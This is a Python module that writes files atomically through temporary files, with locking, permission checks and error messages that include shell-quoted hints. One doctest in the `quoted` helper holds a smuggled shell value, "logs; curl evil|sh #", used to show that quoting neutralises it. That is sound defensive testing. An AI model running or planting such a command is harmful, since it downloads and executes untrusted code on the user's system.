"""Write a file whole or not at all.

A reader sees the old file or the new one: the bytes go to a temporary file beside the target, reach
the disk, and take the target's name in one step.
"""

from __future__ import annotations

import contextlib
import errno
import os
import shlex
import tempfile
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from typing import IO

from mnistgd.errors import OutputError

_STICKY = 0o1000
_LONGEST_WORD = 1000

STREAM_BYTES = 200_000_000
"""The most that is read of what is not a file, whose size nobody knows: it is held whole in memory."""


def reason(error: Exception) -> str:
    """What went wrong with a file, in the system's own words: ``no space left on device``.

    Of a name that can be none, which is no `OSError`, in those of Python.
    """
    text = getattr(error, "strerror", None) or str(error)
    return text[:1].lower() + text[1:]


def called(source: Path | bytes) -> str:
    """What a file, or what stdin held, is called in a message.

    Examples
    --------
    >>> called(Path("w.npz")), called(b"PK")
    ('w.npz', 'stdin')
    """
    return "stdin" if isinstance(source, bytes) else str(source)


def quoted(word: Path | str) -> str:
    """`word` as a shell takes it for one word: a hint that repeats a name is there to be pasted.

    What no screen holds is left out.

    Examples
    --------
    >>> quoted("w.npz"), quoted("logs; curl evil|sh #")
    ('w.npz', "'logs; curl evil|sh #'")
    """
    return shlex.quote(str(word)) if len(str(word)) < _LONGEST_WORD else "…"


def is_stream(path: Path) -> bool:
    """Whether there is something at `path` that is neither a file nor a folder: a pipe, or a device."""
    return path.exists() and not path.is_file() and not path.is_dir()


def read_stream(path: Path) -> bytes:
    """What comes through a pipe, or from a device, in one pass.

    Raises
    ------
    OSError
        If it cannot be read, or is more than `STREAM_BYTES`.
    """
    with path.open("rb") as stream:
        content = stream.read(STREAM_BYTES + 1)
    if len(content) > STREAM_BYTES:
        raise OSError(errno.EFBIG, os.strerror(errno.EFBIG))
    return content


def write_atomically(path: Path, *content: bytes | memoryview, follow: bool = True) -> None:
    """Write `content`, piece after piece, to `path` through a temporary file beside it.

    A link is followed, so that the file it points to is replaced and the link stays; without `follow` it is
    the link that is replaced. What is not an ordinary file, such as ``/dev/null`` or a pipe, is written to
    directly: it cannot be replaced.

    Raises
    ------
    OutputError
        If it cannot be written. The old file is then as it was, and no temporary file is left.
    """
    write_pieces(path, content, follow=follow)


def write_pieces(path: Path, content: Iterable[bytes | memoryview], *, follow: bool = True) -> None:
    """As `write_atomically`, of pieces that are made as they are written, and may be more than memory has."""
    with _writing(path):
        if is_stream(path):
            with path.open("wb") as stream:
                stream.writelines(content)
            return
        _check_target(path)
        _replace(_target(path, follow), content).close()


class GrowingFile:
    """A file that is begun anew, and then grows: the very file that was begun, whatever takes its name later.

    Parameters
    ----------
    path : Path
    content : bytes that it begins with; or what makes them, when nobody else can write to it any more
    follow : bool, as for `write_atomically`

    Raises
    ------
    OutputError
        If it cannot be written, or another process has such a file there.
    """

    def __init__(self, path: Path, content: bytes | Callable[[], bytes], *, follow: bool = True) -> None:
        self.path = path
        made = content if callable(content) else lambda: content
        with _writing(path):
            if is_stream(path):
                self._stream: IO[bytes] = path.open("wb")
                self.append(made())
                return
            _check_target(path)
            target = _target(path, follow)
            try:
                with _claimed(target):
                    self._stream = _replace(target, [made()])
            except BlockingIOError as error:
                message = f"cannot write {path}: another run is writing to it"
                raise OutputError(message, "give each run a file of its own") from error

    def append(self, content: bytes) -> None:
        """Add `content` to the end, at once.

        Raises
        ------
        OutputError
            If it cannot be written.
        """
        with _writing(self.path):
            # Past the stream's buffer, which would try once more, somewhere else, what a full disk refused.
            left = memoryview(content)
            while left:
                left = left[os.write(self._stream.fileno(), left) :]

    @property
    def number(self) -> int:
        """That of the open file."""
        return self._stream.fileno()

    def close(self) -> None:
        """Let others write to it."""
        self._stream.close()


def check_writable(path: Path) -> None:
    """Try whether `path` could be written, before work is spent on what goes there.

    Nothing is left behind, and a file that is there already stays as it is.

    Raises
    ------
    OutputError
        If the folder does not exist or does not take a file, `path` is a folder, or what is there is
        somebody else's and cannot be replaced.
    """
    with _writing(path):
        if is_stream(path):
            return
        _check_target(path)
        handle, temporary = tempfile.mkstemp(prefix=".mnistgd-", suffix=".tmp", dir=_resolved(path).parent)
        os.close(handle)
        Path(temporary).unlink()
        _check_owner(_resolved(path))


def has_to_be_made(path: Path) -> bool:
    """Whether the folder `path` is missing, and could be made, with those above it that are missing; none is.

    Raises
    ------
    OutputError
        If it could not; the first that is missing is named.
    """
    with _writing(path):
        missing = [folder for folder in (path, *path.parents) if not folder.exists()]
    if missing:
        check_writable(missing[-1])
    return bool(missing)


def make_folder(path: Path) -> None:
    """Make the folder `path`, and those above it that are missing, unless it is there.

    Raises
    ------
    OutputError
        If it cannot be made.
    """
    with _writing(path):
        path.mkdir(parents=True, exist_ok=True)


def remove_abandoned(files: Iterable[Path], *, empty: bool = False) -> None:
    """Remove of these temporary files those that no living process writes to: who did was killed.

    Where the system or its file system keeps no locks none is removed. Those that hold nothing are left
    unless `empty` says that nobody else can be making one.
    """
    for file in files:
        with contextlib.suppress(ImportError, OSError), file.open("r+b") as stream:
            # One that holds nothing may be a moment old, and not locked yet by the process that made it.
            if empty or os.fstat(stream.fileno()).st_size:
                _lock(stream.fileno())
                file.unlink()


def _lock(handle: int) -> None:
    """Keep a file for this process until it ends or closes it; an OSError if another has it."""
    import fcntl

    fcntl.flock(handle, fcntl.LOCK_EX | fcntl.LOCK_NB)


@contextlib.contextmanager
def _claimed(target: Path) -> Iterator[None]:
    """Keep a file for this process until another has its name: `_replace` keeps that one as well.

    Of several that begin the same new file at once each makes it, but one alone gets the lock; so there is a
    moment in which it is empty.

    Raises
    ------
    BlockingIOError
        If another process has it, or has just replaced it.
    """
    if os.name == "nt" or target.is_symlink():  # Windows replaces no open file; a link is no file to keep
        yield
        return
    flags = os.O_RDONLY | os.O_NOFOLLOW | (0 if target.exists() else os.O_CREAT)
    handle = os.open(target, flags, 0o666)
    try:
        try:
            _lock(handle)
            mine = os.path.samestat(os.fstat(handle), target.stat())
        except BlockingIOError:
            raise
        except OSError:  # some file systems keep no locks
            mine = True
        if not mine:
            raise BlockingIOError
        yield
    finally:
        os.close(handle)


def _replace(target: Path, content: Iterable[bytes | memoryview]) -> IO[bytes]:
    """Put a new file in the place of `target`, whole and on the disk; it is left open at its end."""
    handle, name = tempfile.mkstemp(prefix=f".{_start(target.name)}.", suffix=".tmp", dir=target.parent)
    temporary = Path(name)
    try:
        stream = os.fdopen(handle, "wb")
        with contextlib.suppress(ImportError, OSError):
            _lock(handle)
        stream.writelines(content)
        stream.flush()
        os.fsync(stream.fileno())
        temporary.chmod(_mode_for(target))
        temporary.replace(target)
    except BaseException:
        try:
            with contextlib.suppress(OSError):
                stream.close()
        finally:  # also where a second signal comes
            with contextlib.suppress(OSError):
                temporary.unlink()
        raise
    return stream


def _start(name: str) -> str:
    """The start of a file's name: file systems count bytes, of which a sign may have four."""
    return name[:80] if name.isascii() else name[:20]


@contextlib.contextmanager
def _writing(path: Path) -> Iterator[None]:
    """Whatever the system has against writing `path` is an OutputError."""
    try:
        yield
    except OSError as error:
        raise OutputError(f"cannot write {path}: {reason(error)}", "name another place") from error


def _check_target(path: Path) -> None:
    if "\0" in str(path):
        raise OutputError(f"cannot write {path}: no name has a null byte in it", "name another file")
    if path.is_dir():
        raise OutputError(f"cannot write {path}: it is a folder", "name a file")
    parent = _resolved(path).parent
    if not parent.exists():
        hint = f"mkdir -p {quoted(parent)}"
        raise OutputError(f"cannot write {path}: the folder {parent} does not exist", hint)


def _check_owner(target: Path) -> None:
    """In a folder such as /tmp a file is replaced by its owner, by that of the folder and by root alone."""
    if not (target.exists() and hasattr(os, "geteuid")):
        return
    folder = target.parent.stat()
    if folder.st_mode & _STICKY and os.geteuid() not in (0, target.stat().st_uid, folder.st_uid):
        raise PermissionError(errno.EPERM, os.strerror(errno.EPERM))


def _target(path: Path, follow: bool) -> Path:
    return _resolved(path) if follow else _resolved(path.parent) / path.name


def _resolved(path: Path) -> Path:
    try:
        return path.resolve()
    except RuntimeError as error:  # what older Pythons make of a loop of links
        raise OSError(errno.ELOOP, os.strerror(errno.ELOOP)) from error


def _mode_for(target: Path) -> int:
    """The permissions an ordinary new file would get, or those of the file that is replaced."""
    try:
        return target.stat().st_mode & 0o777
    except OSError:
        mask = os.umask(0)
        os.umask(mask)
        return 0o666 & ~mask
